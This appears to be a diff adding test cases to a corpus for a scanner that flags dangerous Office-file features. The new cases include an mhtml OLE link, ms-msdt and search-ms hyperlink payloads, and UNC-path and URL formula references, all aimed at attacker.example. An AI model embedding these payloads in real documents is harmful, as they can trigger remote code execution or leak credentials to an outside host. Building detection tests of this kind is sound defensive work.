@@ -58,6 +58,7 @@ import {
   binarySheet,
   documentVml,
   formControlFormula,
+  macroSheetByRelationship,
   nestedField,
   sheetWith,
   workbookVml,
@@ -1563,6 +1564,43 @@ function reachingOfficeItems(): CorpusItem[] {
         ),
       'OOXML_EXTERNAL',
     ),
+    item('xlsx-macro-sheet-by-relationship-type', 'macros', macroSheetByRelationship, 'MACROS'),
+    item(
+      'docx-ole-link-mhtml-through-hyperlink-relationship',
+      'OOXML external',
+      () =>
+        documentLinking(
+          '<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:10pt;height:10pt"/><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rId9" UpdateMode="Always"/></w:object></w:r></w:p>',
+          [rel('rId9', 'hyperlink', 'mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html', true)],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    ...[
+      ['ms-msdt', 'ms-msdt:/id PCWDiagnostic /skip force /param &quot;IT_BrowseForFile=x&quot;'],
+      ['search-ms', 'search-ms:query=x&amp;crumb=location:\\\\attacker.example\\share'],
+    ].map(([scheme, target]) =>
+      item(
+        `docx-hyperlink-${scheme}`,
+        'OOXML external',
+        () =>
+          documentLinking('<w:p><w:hyperlink r:id="rId9"><w:r><w:t>详情</w:t></w:r></w:hyperlink></w:p>', [
+            rel('rId9', 'hyperlink', target ?? '', true),
+          ]),
+        'OOXML_EXTERNAL',
+      ),
+    ),
+    item(
+      'xlsx-formula-reference-unc-path',
+      'OOXML external',
+      () => sheetWithFormula("'\\\\attacker.example\\share\\[b.xlsx]Sheet1'!A1"),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-defined-name-reference-url',
+      'OOXML external',
+      () => definedNameFormula("'https://attacker.example/d/[b.xlsx]Sheet1'!$A$1"),
+      'OOXML_EXTERNAL',
+    ),
   ];
 }
 
@@ -2023,6 +2061,23 @@ export const ACTIVE_GENUINE: readonly {
       documentVml(
         '<v:shape href="https://www.miit.gov.cn/" style="width:9pt;height:9pt"><v:fill color="red"/></v:shape>',
       ),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'xlsx-paths-in-strings',
+    declared: 'xlsx',
+    bytes: () =>
+      sheetWithFormula(
+        'IF(ISNUMBER(SEARCH(&quot;https://&quot;,A1)),SUBSTITUTE(A1,&quot;\\&quot;,&quot;/&quot;),&quot;\\\\server\\share&quot;)',
+      ),
+  },
+  {
+    id: 'docx-hyperlink-mailto',
+    declared: 'docx',
+    bytes: () =>
+      documentLinking('<w:p><w:hyperlink r:id="rId7"><w:r><w:t>联系我们</w:t></w:r></w:hyperlink></w:p>', [
+        rel('rId7', 'hyperlink', 'mailto:cluster@miit.gov.cn', true),
+      ]),
     warning: 'EXTERNAL_LINK',
   },
 ];
